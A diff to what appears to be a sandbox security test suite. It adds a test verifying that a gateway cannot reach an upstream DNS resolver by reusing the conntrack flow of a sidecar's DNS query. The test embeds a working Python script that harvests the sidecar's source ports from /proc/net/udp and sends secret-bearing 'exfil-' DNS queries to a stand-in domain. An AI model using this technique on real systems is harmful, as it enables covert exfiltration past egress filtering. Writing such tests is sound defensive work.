@@ -1087,3 +1087,78 @@ def test_h2_authority_and_host_disagreeing_is_host_mismatch(world: World) -> Non
     world.assert_refused_and_alerted(mark, "host_mismatch", host=PROVIDER_HOST)
     assert len(world.provider.received) == received
     world.assert_attacker_saw_nothing(mark)
+
+
+# --- the gateway reusing the conntrack entry of the sidecar's upstream DNS query ----------
+
+# Reads /proc/net/udp (one network namespace: the sidecar's sockets are listed with its
+# UID), makes the sidecar resolve an allowed name, then binds the source port the
+# sidecar's query used, once that socket closed, and sends its own questions to the
+# upstream resolver: the nat REDIRECT only sees a flow's first packet, so only the filter
+# table can stop them (ESTABLISHED accepted in the reply direction only).
+CONNTRACK_REUSE = r"""
+import json, random, socket, struct, sys, threading, time
+def hexaddr(ip, port):
+    return "".join("%02X" % int(b) for b in reversed(ip.split("."))) + ":%04X" % port
+want = hexaddr("10.77.0.2", 53)
+def q(name, qtype=1):
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    head = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
+    return head + labels + b"\0" + struct.pack("!HH", qtype, 1)
+seen = set(); stop = time.monotonic() + 4
+def poll():
+    while time.monotonic() < stop:
+        for line in open("/proc/net/udp").read().splitlines()[1:]:
+            f = line.split()
+            port = int(f[1].split(":")[1], 16)
+            if f[7] == "1337" and port != 15053:
+                seen.add(port)
+t = threading.Thread(target=poll); t.start()
+time.sleep(0.2)
+# trigger: a TLS ClientHello for the allowed name makes the sidecar resolve it
+ctx = __import__("ssl").create_default_context(); ctx.check_hostname = False; ctx.verify_mode = 0
+try:
+    s = socket.create_connection(("10.77.0.2", 443), timeout=3)
+    ctx.wrap_socket(s, server_hostname="api.openai.com").close()
+except Exception as e:
+    pass
+t.join()
+res = {"sidecar_ports": sorted(seen), "answers": {}}
+for port in sorted(seen):
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
+    try:
+        u.bind(("0.0.0.0", port))
+        u.sendto(q("exfil-" + sys.argv[1] + ".only-upstream.example"), ("10.77.0.2", 53))
+        u.sendto(q("only-upstream.example"), ("10.77.0.2", 53))
+        a = u.recv(512); b = u.recv(512)
+        res["answers"][port] = [a[3] & 0xF, b[3] & 0xF, ".".join(str(x) for x in b[-4:])]
+    except OSError as e:
+        res["answers"][port] = repr(e)
+    u.close()
+# the channel outlives the conntrack UDP timeout (30 s): each datagram refreshes it
+if seen and len(sys.argv) > 2:
+    port = sorted(seen)[0]; u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
+    u.bind(("0.0.0.0", port)); res["later"] = []
+    for i in range(int(sys.argv[2])):
+        time.sleep(12)
+        u.sendto(q("later%d-%s.only-upstream.example" % (i, sys.argv[1])), ("10.77.0.2", 53))
+        try: res["later"].append([round(time.monotonic() - stop, 1), u.recv(512)[3] & 0xF])
+        except OSError as e: res["later"].append(repr(e))
+print(json.dumps(res))
+"""
+
+
+def test_gateway_reusing_the_sidecars_dns_flow_cannot_reach_the_upstream_resolver(
+    world: World,
+) -> None:
+    time.sleep(6)  # the sidecar's cached answer expires (TTL 5 s): it asks upstream again
+    script = world.work / "conntrack_reuse.py"
+    script.write_text(CONNTRACK_REUSE)
+    before = len(world.upstream.questions)
+    proc = world.run(child_python(), str(script), "c2VjcmV0", timeout=90)
+    result = json.loads(proc.stdout.strip().splitlines()[-1])
+    asked = [name for name, _ in world.upstream.questions[before:]]
+    assert "api.openai.com" in asked, (asked, result)  # control: the sidecar did ask upstream
+    assert result["sidecar_ports"], result  # control: the gateway saw the sidecar's port
+    leaked = [name for name in asked if name != "api.openai.com"]
+    assert not leaked, f"the gateway reached the upstream resolver directly: {leaked}"
